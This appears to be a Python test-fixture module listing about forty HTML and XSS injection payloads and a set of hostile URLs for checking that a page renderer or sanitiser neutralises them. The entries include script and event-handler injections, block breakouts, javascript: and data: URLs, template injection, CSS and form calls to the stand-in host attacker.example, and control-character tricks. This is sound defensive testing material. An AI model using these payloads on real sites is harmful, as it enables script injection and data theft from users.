"""Forty texts that try to make a page run something, fetch something, or show other words than it holds.

Whatever gets to run sets `window.ran`; whatever gets to fetch asks a host under `attacker.example`.
"""

from __future__ import annotations

RAN = "window.ran=1"

PAYLOADS: dict[str, str] = {
    "script element": f"<script>{RAN}</script>",
    "script in capitals": f"<SCRIPT>{RAN}</SCRIPT>",
    "script with a source": "<script src=https://attacker.example/x.js></script>",
    "script that ends the data block": f'</script><script>{RAN}</script><script type="application/json">',
    "comment that swallows the data block": f"<!--<script>{RAN}//-->",
    "style that ends the style block": f"</style><script>{RAN}</script>",
    "title and textarea closed early": f"</title></textarea></noscript><script>{RAN}</script>",
    "image with onerror": f'<img src=x onerror="{RAN}">',
    "image without quotes or spaces": f"<img/src='x'/onerror={RAN}>",
    "svg with onload": f'<svg onload="{RAN}"></svg>',
    "svg with a script": f"<svg><script>{RAN}</script></svg>",
    "svg animation": f'<svg><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
    "svg foreign object": f'<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>{RAN}',
    "math with a link": '<math><a xlink:href="javascript:window.ran=1">x</a></math>',
    "body with onload": f'<body onload="{RAN}">',
    "details with ontoggle": f'<details open ontoggle="{RAN}">x</details>',
    "input with autofocus": f'<input autofocus onfocus="{RAN}">',
    "marquee": f'<marquee onstart="{RAN}">x</marquee>',
    "video with a broken source": f'<video><source onerror="{RAN}"></video>',
    "iframe with a document": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "iframe with javascript": '<iframe src="javascript:parent.ran=1"></iframe>',
    "object and embed": '<object data="https://attacker.example/o"></object><embed src="https://attacker.example/e">',
    "form that sends itself": '<form action="https://attacker.example/f"><button autofocus>x</button></form>',
    "base that moves every link": '<base href="https://attacker.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.example/m">',
    "link to a style sheet": '<link rel="stylesheet" href="https://attacker.example/s.css">',
    "style import": "<style>@import 'https://attacker.example/i.css';</style>",
    "style attribute": '<div style="background:url(https://attacker.example/b.png);position:fixed;inset:0">x</div>',
    "css out of a selector": "x]{} *{background:url(https://attacker.example/c.png)} [y",
    "attribute in double quotes": f'" onmouseover="{RAN}" autofocus onfocus="{RAN}" x="',
    "attribute in single quotes": f"' onmouseover='{RAN}' autofocus onfocus='{RAN}' x='",
    "entities that decode to a script": f"&lt;script&gt;{RAN}&lt;/script&gt;&#60;img src=x onerror={RAN}&#62;",
    "template of jinja": "{{ config.__class__.__init__.__globals__ }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "template of the browser": "${window.ran=1} {{constructor.constructor('window.ran=1')()}} <%= 7*7 %>",
    "json that closes its string": '","x":"\\u003c/script\\u003e\u2028\u2029<script>window.ran=1</script>\\',
    "right to left override": "the army \u202eyraurbeF ni koob eht dednif\u202c \u2066hidden\u2069 \u200fend",
    "null bytes and controls": "<scr\x00ipt>window.ran=1</scr\x00ipt>\x00\x08\x1b[2J\x1b]0;owned\x07\x9b31m",
    "one long word": "A" * 3000,
    "lone surrogates and strange letters": "\ud800 \udfff \ufeff\u200b\U000e0041 Z\u0351\u036f\u0315\u0319a\u0321\u0325l\u0328g\u0327o",
    "deep nesting": "<div>" * 600 + f"<script>{RAN}</script>",
}

HOSTILE_URLS = (
    "javascript:window.ran=1",
    " javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "java\tscript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//attacker.example/",
    "https:attacker.example",
    "https://",
    "https://user:secret@attacker.example/",
    'https://attacker.example/" onmouseover="window.ran=1',
    "https://attacker.example/\u202egnp.exe",
    "blob:https://attacker.example/x",
    "http://[broken/",
    "\x01javascript:window.ran=1",
)
